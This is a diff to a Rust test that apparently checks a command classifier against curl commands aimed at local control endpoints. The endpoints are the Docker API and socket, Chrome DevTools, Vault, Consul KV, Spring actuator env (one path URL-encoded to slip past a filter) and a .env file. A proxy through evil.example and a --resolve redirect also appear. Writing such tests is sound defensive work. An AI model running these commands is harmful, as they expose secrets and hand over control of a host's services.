@@ -130,6 +130,12 @@ fn exchanges_with_others_are_not() {
         // Control of this machine.
         ("topic", "curl localhost:2375/containers/json"),
         ("topic", "curl -s http://127.0.0.1:9222/json"),
+        ("topic", "curl -s localhost:8200/v1/sys/health"),
+        ("topic", "curl -s localhost:8500/v1/kv/?recurse"),
+        ("topic", "curl -s localhost:8080/actuator/env"),
+        ("topic", "curl -s 'localhost:8080/%61ctuator/beans'"),
+        ("topic", "curl -s localhost:3000/.env"),
+        ("topic", "curl -s 'http://[::1]:9200/_search'"),
         ("topic", "curl -x http://evil.example localhost:3000"),
         ("topic", "curl localhost:3000 --resolve localhost:3000:203.0.113.9"),
         ("topic", "curl --unix-socket /var/run/docker.sock http://localhost/info"),
